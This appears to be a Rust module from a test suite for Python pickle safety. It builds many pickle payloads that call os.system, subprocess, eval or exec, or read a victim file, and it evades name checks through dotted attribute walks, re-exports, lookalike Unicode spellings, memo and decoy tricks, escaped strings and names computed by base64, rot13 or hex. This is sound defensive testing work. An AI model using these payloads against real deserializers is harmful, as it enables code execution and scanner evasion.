//! Names with dots, re-exports, spellings, and names that are computed.

use super::collector::{Collector, Spot};
use super::{Class, Needs};
use crate::args;
use crate::asm::Asm;
use crate::value::{Value, call, g, list, method, steps};

pub(super) fn collect(all: &mut Collector<'_>) {
    all.class(Class::Name);
    dotted(all);
    reexported(all);
    spelled(all);
    all.class(Class::Memo);
    memo(all);
    escaped(all);
    computed(all);
}

/// Names that are walked along their dots, which `STACK_GLOBAL` and protocol 4 do.
fn dotted(all: &mut Collector<'_>) {
    for (module, name) in [
        ("logging", "os.system"),
        ("os", "path.os.system"),
        ("os.path", "genericpath.os.system"),
        ("random", "_os.system"),
        ("shutil", "os.system"),
        ("tempfile", "_os.system"),
        ("multiprocessing.util", "os.system"),
        ("ctypes.util", "os.system"),
        ("fnmatch", "os.system"),
        ("glob", "os.system"),
        ("pprint", "_sys.modules.get"),
        ("asyncio.base_events", "subprocess.getoutput"),
        ("webbrowser", "subprocess.getoutput"),
    ] {
        let full = format!("dotted-{module}-{name}").replace("..", ".");
        all.add_in(
            4,
            &full,
            "walks from a module to another one's function",
            |k| {
                if name.ends_with("get") {
                    let os = call(g(module, name), args!["os"]);
                    method(os, "system", args![&k.sh])
                } else {
                    call(g(module, name), args![&k.sh])
                }
            },
        )
        .needs(if module == "ctypes.util" {
            Needs::Module("_ctypes")
        } else {
            Needs::Since(6)
        });
    }
    for (module, name) in [
        ("builtins", "len.__self__.eval"),
        ("builtins", "print.__self__.exec"),
        ("inspect", "builtins.eval"),
        ("gzip", "builtins.exec"),
        ("codecs", "builtins.exec"),
        ("__main__", "__builtins__.eval"),
    ] {
        let full = format!("dotted-{module}-{name}");
        all.add_in(4, &full, "walks from an object to eval or exec", |k| {
            call(g(module, name), args![&k.py])
        });
    }
    all.bytes(
        "dotted-global",
        "GLOBAL walks along dots, too, in protocol 4",
        |k| {
            let args = Asm::new()
                .proto(4)
                .global("logging", "os.system")
                .text(&k.sh);
            args.tuple1().reduce().stop()
        },
    );
    all.add_in(
        4,
        "dotted-function-globals",
        "walks to a function's globals",
        |k| {
            let get = g("collections", "Counter.update.__globals__.get");
            let sys = call(get, args!["_sys"]);
            let modules = call(g("builtins", "getattr"), args![sys, "modules"]);
            method(
                call(g("operator", "getitem"), args![modules, "os"]),
                "system",
                args![&k.sh],
            )
        },
    );
    all.add_in(
        4,
        "dotted-init-globals",
        "walks to the globals of a method",
        |k| {
            let get = g("os", "_wrap_close.__init__.__globals__.get");
            call(call(get, args!["system"]), args![&k.sh])
        },
    );
    all.add_in(
        4,
        "dotted-method",
        "names a method, to call it with any object",
        |k| {
            let path = call(g("pathlib", "PosixPath"), args![&k.marker]);
            call(g("pathlib", "Path.touch"), vec![path])
        },
    );
    all.add_in(
        4,
        "dotted-subclasses",
        "lists all classes there are",
        |_| call(g("builtins", "object.__subclasses__"), vec![]),
    )
    .state("len(loaded) > 50");
    all.add_in(
        4,
        "dotted-instance-method",
        "walks to a method of an existing object",
        |k| {
            call(
                g("logging", "root.manager.loggerDict.setdefault"),
                args!["hostile", &k.victim],
            )
        },
    )
    .state("'hostile' in sys.modules['logging'].root.manager.loggerDict");
    all.add_in(
        4,
        "dotted-module-loader",
        "walks to a module's loader",
        |k| {
            let os = call(g("builtins", "__loader__.load_module"), args!["posix"]);
            method(os, "system", args![&k.sh])
        },
    )
    .needs(Needs::Module("posix"))
    .needs(Needs::Before(15));
    all.add_in(4, "dotted-class-of-a-class", "walks to type", |k| {
        let made = super::made::attribute("__del__", super::made::lazy(k));
        let made = call(
            g("builtins", "int.__class__"),
            args!["Made", Value::Tuple(vec![]), made],
        );
        steps(vec![call(made, vec![]), Value::None])
    });
}

/// Functions that other modules than their own have under a plain name.
fn reexported(all: &mut Collector<'_>) {
    for (module, name) in [
        ("tokenize", "_builtin_open"),
        ("tokenize", "open"),
        ("_io", "open_code"),
        ("codecs", "open"),
    ] {
        let full = format!("reexported-{module}.{name}");
        all.add(
            &full,
            "opens a file by another module's name",
            |k| match name {
                "_builtin_open" => call(g(module, name), args![&k.marker, "w"]),
                "open" if module == "codecs" => call(g(module, name), args![&k.marker, "wb"]),
                _ => method(call(g(module, name), args![&k.victim]), "read", vec![]),
            },
        )
        .harm(match (module, name) {
            ("codecs", _) | (_, "_builtin_open") => super::Harm::Marker,
            _ => super::Harm::State("'secret' in str(loaded)".to_owned()),
        })
        .since(8);
    }
    for (module, attribute) in [
        ("os.path", "os"),
        ("posixpath", "os"),
        ("fileinput", "os"),
        ("fnmatch", "os"),
        ("filecmp", "os"),
        ("test.support", "os"),
    ] {
        let full = format!("reexported-{module}-{attribute}");
        let draft = all.add(&full, "finds a module in another one", |k| {
            method(g(module, attribute), "system", args![&k.sh])
        });
        if module == "test.support" {
            draft.module(module);
        }
    }
    for module in ["importlib._bootstrap", "_frozen_importlib"] {
        let full = format!("reexported-{module}._call_with_frames_removed");
        all.add(&full, "calls, inside the import system", |k| {
            let helper = g(module, "_call_with_frames_removed");
            call(helper, args![g("os", "system"), &k.sh])
        });
    }
    all.add(
        "reexported-numpy-myeval",
        "evaluates, inside a Fortran parser",
        |k| call(g("numpy.f2py.crackfortran", "myeval"), args![&k.py]),
    )
    .module("numpy");
    all.add(
        "reexported-importlib.machinery",
        "names a class by a package's face",
        |k| {
            let loader = g("importlib.machinery", "SourcelessFileLoader");
            let loader = call(loader, args!["evil", &k.victim]);
            method(loader, "get_data", args![&k.victim])
        },
    )
    .state("b'secret' in loaded");
}

/// Names that look like others, which a loader must not take for them.
fn spelled(all: &mut Collector<'_>) {
    for (name, module, attribute) in [
        ("fullwidth", "ｏｓ", "ｓｙｓｔｅｍ"),
        ("ligature", "ﬁle", "oſ"),
        ("cyrillic", "оs", "systеm"),
        ("zero-width", "o\u{200b}s", "sys\u{200d}tem"),
        ("soft-hyphen", "o\u{ad}s", "system\u{ad}"),
        ("right-to-left", "\u{202e}so\u{202c}", "metsys"),
    ] {
        let draft = all.add_in(
            4,
            &format!("spelled-{name}"),
            "a name that looks like os.system",
            |k| call(g(module, attribute), args![&k.sh]),
        );
        draft.needs(Needs::Other(
            "a loader that makes one name of two spellings",
        ));
    }
    for (name, module, attribute) in [
        ("nul", "os\0", "system\0"),
        ("newline", "os\n", "system\n"),
        ("space", " os", "system "),
        ("empty-parts", "os.", ".system"),
        ("empty", "", "os.system"),
        ("relative", ".os", "system"),
        ("upper", "OS", "SYSTEM"),
    ] {
        let draft = all.add_in(
            4,
            &format!("spelled-{name}"),
            "a name that is nearly os.system",
            |k| call(g(module, attribute), args![&k.sh]),
        );
        draft.needs(Needs::Other(
            "a loader that trims names, or cuts them at NUL",
        ));
    }
    all.bytes(
        "spelled-carriage-return",
        "GLOBAL with lines of another system",
        |k| {
            let args = Asm::new().raw(b"cos\r\nsystem\r\n").text(&k.sh);
            args.tuple1().reduce().stop()
        },
    )
    .needs(Needs::Other(
        "a loader that trims names, or cuts them at NUL",
    ));
}

fn run(names: Asm, k: &Spot) -> Vec<u8> {
    names.stack_global().text(&k.sh).tuple1().reduce().stop()
}

fn memo(all: &mut Collector<'_>) {
    let does = "names by way of the memo";
    all.bytes("memo-binget", does, |k| {
        let put = Asm::new()
            .text("os")
            .binput(5)
            .pop()
            .text("system")
            .binput(6)
            .pop();
        run(put.binget(5).binget(6), k)
    });
    all.bytes("memo-memoize", does, |k| {
        let put = Asm::new()
            .proto(4)
            .text("system")
            .memoize()
            .text("os")
            .memoize()
            .mark();
        run(put.pop_mark().pop().pop().binget(1).binget(0), k)
    });
    all.bytes("memo-get-text", does, |k| {
        let put = Asm::new().unicode_text("system").put("7").pop();
        run(put.unicode_text("os").get("7"), k)
    });
    all.bytes("memo-long-index", does, |k| {
        let put = Asm::new().text("system").long_binput(70_000).pop();
        run(put.text("os").long_binget(70_000), k)
    });
    all.bytes(
        "memo-get-spelled",
        "an index with zeros, a sign and an underscore",
        |k| {
            let put = Asm::new()
                .text("os")
                .put("+1_0")
                .pop()
                .text("system")
                .put("0011")
                .pop();
            run(put.get("010").get("+1_1"), k)
        },
    );
    all.bytes(
        "memo-overwritten",
        "an entry that is overwritten with the evil name",
        |k| {
            let put = Asm::new()
                .text("collections")
                .binput(0)
                .text("OrderedDict")
                .binput(1);
            let put = put
                .text("os")
                .binput(0)
                .text("system")
                .binput(1)
                .mark()
                .pop_mark();
            run(put.binget(0).binget(1), k)
        },
    );
    all.bytes(
        "memo-overwritten-later",
        "an entry that is overwritten after its use",
        |k| {
            let put = Asm::new().text("os").binput(0).text("system").binput(1);
            let used = put.stack_global().text("collections").binput(0);
            used.pop().text(&k.sh).tuple1().reduce().stop()
        },
    );
    all.bytes(
        "memo-memoize-counts",
        "MEMOIZE after BINPUT 0 to the same index twice",
        |k| {
            let put = Asm::new().text("a").binput(0).text("b").binput(0);
            let put = put.text("os").memoize().text("system").memoize();
            run(put.binget(1).binget(2), k)
        },
    );
    all.bytes(
        "memo-callable",
        "the callable itself is fetched again",
        |k| {
            let put = Asm::new().named("os", "system").memoize().pop();
            put.binget(0).text(&k.sh).tuple1().reduce().stop()
        },
    );
    all.bytes(
        "dup-name",
        "DUP makes a module's name its function's, too",
        |k| {
            let timeit = Asm::new().text("timeit").dup().stack_global();
            timeit.text("pass").text(&k.py).tuple2().reduce().stop()
        },
    );
    all.bytes("dup-callable", "DUP, and the first copy is dropped", |k| {
        let system = Asm::new().global("os", "system").dup().mark().pop_mark();
        system.text(&k.sh).tuple1().reduce().stop()
    });
    all.bytes(
        "pop-decoys",
        "decoys between the names and STACK_GLOBAL are dropped",
        |k| {
            let names = Asm::new().proto(4).text("os").text("system");
            run(names.text("collections").text("OrderedDict").pop().pop(), k)
        },
    );
    all.bytes("pop-mark-decoys", "decoys above a mark are dropped", |k| {
        let names = Asm::new().proto(4).text("os").text("system").mark();
        run(names.text("collections").text("Counter").pop_mark(), k)
    });
    all.bytes(
        "decoy-in-a-tuple",
        "decoys in a tuple that is dropped",
        |k| {
            let names = Asm::new().proto(4).text("os").text("system");
            run(names.text("collections").text("Counter").tuple2().pop(), k)
        },
    );
    all.bytes("names-apart", "much stands between the two names", |k| {
        let decoy = Asm::new().text("decoy").pop();
        run(
            Asm::new()
                .text("os")
                .times(40, &decoy)
                .text("system")
                .times(40, &decoy),
            k,
        )
    });
}

fn escaped(all: &mut Collector<'_>) {
    let does = "names written with escapes, or in other types of string";
    let pair = |k: &Spot, module: &str, name: &str| {
        run(Asm::new().raw(module.as_bytes()).raw(name.as_bytes()), k)
    };
    for (name, module, attribute) in [
        ("unicode", "V\\u006fs\n", "Vsy\\u0073tem\n"),
        ("unicode-long", "V\\U0000006fs\n", "V\\U00000073ystem\n"),
        ("string", "S'\\x6fs'\n", "S'\\x73ystem'\n"),
        ("string-octal", "S'\\157s'\n", "S\"\\163ystem\"\n"),
        ("string-line", "S'o\\\\x73'\n", "S'system'\n"),
        ("short-binstring", "U\x02os", "U\x06system"),
        ("binstring", "T\x02\0\0\0os", "T\x06\0\0\0system"),
        ("binunicode", "X\x02\0\0\0os", "X\x06\0\0\0system"),
    ] {
        let draft = all.bytes(&format!("escaped-{name}"), does, |k| {
            pair(k, module, attribute)
        });
        if name == "string-line" {
            draft.needs(Needs::Other("a loader that unescapes twice"));
        }
    }
    all.bytes("escaped-binunicode8", does, |k| {
        run(Asm::new().binunicode8("os").binunicode8("system"), k)
    });
}

fn computed(all: &mut Collector<'_>) {
    let does = "a name that a call computes";
    let mut add = |name: &str, part: Value| {
        all.add_in(4, &format!("computed-{name}"), does, |k| {
            // STACK_GLOBAL on what the call returned.
            let system = Asm::new().text("os").then(&part.asm(4)).stack_global();
            call(system.into(), args![&k.sh])
        });
    };
    add(
        "join",
        method("".into(), "join", vec![list(args!["sys", "tem"])]),
    );
    add("concat", call(g("operator", "concat"), args!["sys", "tem"]));
    add(
        "replace",
        method("sXstem".into(), "replace", args!["X", "y"]),
    );
    add("lower", method("SYSTEM".into(), "lower", vec![]));
    add(
        "decode",
        call(g("_codecs", "decode"), args![b"system".to_vec(), "ascii"]),
    );
    add(
        "rot13",
        call(g("codecs", "decode"), args!["flfgrz", "rot13"]),
    );
    add(
        "str",
        call(g("builtins", "str"), args![b"system".to_vec(), "ascii"]),
    );
    let backwards = call(g("builtins", "slice"), args![Value::None, Value::None, -1]);
    add(
        "reversed",
        call(g("operator", "getitem"), args!["metsys", backwards]),
    );
    let decoded = call(g("base64", "b64decode"), args!["c3lzdGVt"]);
    add("base64", method(decoded, "decode", vec![]));
    let unhexed = call(g("binascii", "unhexlify"), args!["73797374656d"]);
    add("hex", method(unhexed, "decode", vec![]));
    add("format", method("{}tem".into(), "format", args!["sys"]));
    add(
        "normalized",
        call(g("unicodedata", "normalize"), args!["NFKC", "ｓｙｓｔｅｍ"]),
    );
    let letters = call(
        g("builtins", "map"),
        args![
            g("builtins", "chr"),
            list(args![115, 121, 115, 116, 101, 109])
        ],
    );
    add("chr", method("".into(), "join", vec![letters]));
}
